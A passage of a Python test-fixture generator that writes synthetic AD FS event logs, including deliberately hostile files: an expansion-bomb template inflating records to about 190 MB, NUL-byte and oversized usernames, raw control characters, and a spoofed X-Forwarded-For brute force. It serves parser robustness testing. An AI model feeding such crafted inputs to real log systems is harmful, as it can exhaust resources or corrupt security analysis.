    """A template that names one value 7,900 times: each record of a few kilobytes would expand to about 190 MB."""
    subs = [Sub(0, STRING) for _ in range(7900)]
    t = Template('fan-out', Element('Event', [('xmlns', NS)], [
        Element('System', children=[Element('Provider', [('Name', Sub(1, STRING))]),
                                    Element('EventID', children=[Sub(2, UINT16)]),
                                    Element('TimeCreated', [('SystemTime', Sub(3, FILETIME))]),
                                    Element('Computer', children=[Sub(4, STRING)])]),
        Element('EventData', children=[Element('Data', children=subs)])]))
    write_file(path, [(filetime(BASE), t, [(STRING, 'x' * 12000), (STRING, 'AD FS Auditing'), (UINT16, 411),
                                           (FILETIME, filetime(BASE)), (STRING, 'ADFS01')])] * 16)
    return {'records': 16}


def shapes_file(path):
    """Templates that place a value where the Binary XML walk repeats an element for each item of an array, or
    leaves an element out for a Null: directly under <Event>, under <System>, under <EventData>, as a System field,
    as a named <Data>; each with arrays of two items, one and none, and Null values. What matters is that every
    reader gives these records the same events (tests/event_plan_check.c compares badcreds' two ways)."""
    def system(extra=()):
        return Element('System', children=list(extra) + [
            Element('Provider', [('Name', Sub(1, STRING))]), Element('EventID', children=[Sub(2, UINT16)]),
            Element('TimeCreated', [('SystemTime', Sub(3, FILETIME))]), Element('Computer', children=[Sub(4, STRING)])])
    data = Element('EventData', children=[Element('Data', [('Name', 'Item')], [Sub(5, STRING)])])
    shapes = [
        Template('shape-root-array', Element('Event', [('xmlns', NS)], [system(), data, Sub(0, STRING_ARRAY)])),
        Template('shape-system-array', Element('Event', [('xmlns', NS)], [system([Sub(0, STRING_ARRAY)]), data])),
        Template('shape-eventdata-array', Element('Event', [('xmlns', NS)], [system(), Element('EventData', children=[
            Sub(0, STRING_ARRAY), Element('Data', [('Name', 'Item')], [Sub(5, STRING)])])])),
        Template('shape-field-array', Element('Event', [('xmlns', NS)], [system([
            Element('Channel', children=[Sub(0, STRING_ARRAY)])]), data])),
        Template('shape-named-array', Element('Event', [('xmlns', NS)], [system(), Element('EventData', children=[
            Element('Data', [('Name', 'Items')], [Sub(0, STRING_ARRAY, dependency=True)]),
            Element('Data', [('Name', 'Item')], [Sub(5, STRING, optional=True)])])])),
    ]
    records = []
    for t in shapes:
        for items in (['first', 'second'], ['only'], [], None):
            array = (NULL, None) if items is None else (STRING_ARRAY, items)
            records.append((filetime(BASE), t, [array, (STRING, 'AD FS Auditing'), (UINT16, 411),
                                                (FILETIME, filetime(BASE)), (STRING, 'ADFS01'), (STRING, 'x')]))
    write_file(path, records)
    return {'records': len(records)}


def build_hostile(out):
    """HOSTILE-*: files a hostile user or a damaged disk brings; hostile.json says what must come out of them."""
    farm = Farm()
    log = farm.log('ADFS-HOSTILE.contoso.com')
    for i, user in enumerate(HOSTILE_USERS):
        farm.attempt_2016(log, BASE + i * datetime.timedelta(minutes=1), user, '203.0.113.%d' % (10 + i))
    # a brute force whose client put a private address in X-Forwarded-For: still an internet source
    for i in range(6):
        farm.attempt_2016(log, BASE + datetime.timedelta(hours=1, seconds=20 * i), 'victim@contoso.com',
                          '198.51.100.77', claimed='10.0.0.1')
    nul = farm.log('ADFS-NUL.contoso.com')
    farm.attempt_2016(nul, BASE, 'nul\0after@contoso.com', '203.0.113.5')
    farm.expected[-1]['user'] = 'nul'  # every reader stops at the NUL, in every event of the request
    big = farm.log('ADFS-BIG.contoso.com')
    farm.attempt_2016(big, BASE, 'x' * (1 << 20) + '@contoso.com', '203.0.113.6')
    for name, l in (('HOSTILE-NAMES', log), ('HOSTILE-NUL', nul)):
        write_file(os.path.join(out, name + '.evtx'), l.records())
    for name, l in (('HOSTILE-NAMES', log), ('HOSTILE-BIG', big)):
        with open(os.path.join(out, name + '.xml'), 'w', encoding='utf-8') as f:
            f.write(''.join(l.xml_events()))  # control characters raw, as wevtutil writes them
    result = {'attempts': sorted(farm.expected, key=lambda e: (e['time'], e['server'])),
              'carved': carved_file(os.path.join(out, 'HOSTILE-CARVED.evtx')),
              'fanout': fanout_file(os.path.join(out, 'HOSTILE-FANOUT.evtx')),
              'shapes': shapes_file(os.path.join(out, 'HOSTILE-SHAPES.evtx'))}
    with open(os.path.join(out, 'hostile.json'), 'w') as f:
        json.dump(result, f, indent=1)


if __name__ == '__main__':
    build(sys.argv[1])
    build_hostile(sys.argv[1])
    __import__('fixtures_coverage').build(sys.argv[1])  # COV-*: the logs of `badcreds coverage` (coverage.json)
    __import__('fixtures_aad').build(sys.argv[1])  # Entra PRT logs for badcreds prt, in OUT_DIR/prt/
